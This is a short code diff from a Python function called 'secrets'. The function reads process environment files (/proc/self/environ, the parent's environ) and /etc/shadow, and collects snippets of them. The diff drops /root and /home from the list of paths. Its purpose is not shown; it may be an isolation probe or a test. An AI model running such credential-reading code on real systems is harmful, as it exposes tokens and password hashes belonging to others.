@@ -202,8 +202,6 @@ def secrets(paths: list[str]) -> list[str]:
         f"/proc/{os.getppid()}/environ",
         "/proc/self/environ",
         "/etc/shadow",
-        "/root",
-        "/home",
     ]:
         with contextlib.suppress(OSError):
             found.append(path + str(os.listdir(path) if os.path.isdir(path) else Path(path).read_bytes()[:20]))
